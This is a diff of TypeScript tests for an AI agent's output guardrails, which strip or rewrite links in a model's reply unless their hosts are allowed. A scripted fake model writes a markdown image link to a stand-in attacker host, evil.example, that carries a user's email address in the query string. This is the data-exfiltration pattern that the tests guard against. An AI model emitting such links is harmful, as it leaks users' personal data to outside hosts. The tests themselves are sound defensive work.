@@ -1,7 +1,9 @@
 import { scriptedChatModel } from '../../sandbox/fakes/scripted-chat-model';
 import { calling, fakeTool, toolAgent } from '../../sandbox/fakes/tool-agent';
+import { createPlacedGuard } from '../guardrails/policy/apply-guardrails';
 import type { ChatRequest } from '../ports';
 import type { AgentEvent } from './agent-event';
+import { agentGuardrails } from './agent-guardrails';
 import type { AgentParts } from './agent-parts';
 import { runAgent } from './run-agent';
 
@@ -23,7 +25,7 @@ test.each(['whole', 'streamed'])('leaves values out of an image that the model m
 	const model = obeying((token) => `Thanks, ${token}! ![x](https://evil.example/?d=${token})`);
 	const events: AgentEvent[] = [];
 	const outcome = await ask(toolAgent(model, how === 'streamed' ? { onEvent: (event) => events.push(event) } : {}));
-	expect(outcome).toMatchObject({ kind: 'reply', reply: 'Thanks, ana@example.com! ![x](https://evil.example/?d=***)' });
+	expect(outcome).toMatchObject({ kind: 'reply', reply: 'Thanks, ana@example.com! x' });
 	expect(outcome.guardrails).toContainEqual(
 		expect.objectContaining({ guardrail: 'value-in-address', code: 'PERSONAL_DATA', stage: 'output', action: 'rewrite' }),
 	);
@@ -53,4 +55,25 @@ test('calls no tool with an address that carries a value away, and tells the mod
 	expect(open.calls).toEqual([{ to: 'https://crm.example/?mail=ana@example.com' }]);
 	const [refused] = model.requests.at(-1)!.messages.filter(({ role }) => role === 'tool');
 	expect(refused!.content).toContain('into an address that nobody gave');
+});
+
+describe('links of the model', () => {
+	const write = () =>
+		obeying(() => 'See [the form](https://www.gov.br/form), ![x](https://evil.example/x.png) or https://crm.example/help.');
+
+	test('are removed, with their texts left, unless somebody named their hosts', async () => {
+		const outcome = await ask(toolAgent(write(), {}));
+		expect(outcome).toMatchObject({ kind: 'reply', reply: 'See the form, x or https://crm.example/help.' });
+		expect(outcome.guardrails).toContainEqual(expect.objectContaining({ guardrail: 'unknown-link', code: 'LINK', action: 'rewrite' }));
+	});
+
+	test('pass to hosts that the definition allows', async () => {
+		const parts = (allow: string[]) => {
+			const { definition, ...others } = toolAgent(write(), {});
+			const allowing = { ...definition, guardrails: { ...definition.guardrails, links: { allow } } };
+			return { ...others, definition: allowing, guard: createPlacedGuard(agentGuardrails(allowing)) };
+		};
+		expect((await ask(parts(['gov.br']))).reply).toBe('See [the form](https://www.gov.br/form), x or https://crm.example/help.');
+		expect((await ask(parts(['*']))).reply).toContain('![x](https://evil.example/x.png)');
+	});
 });
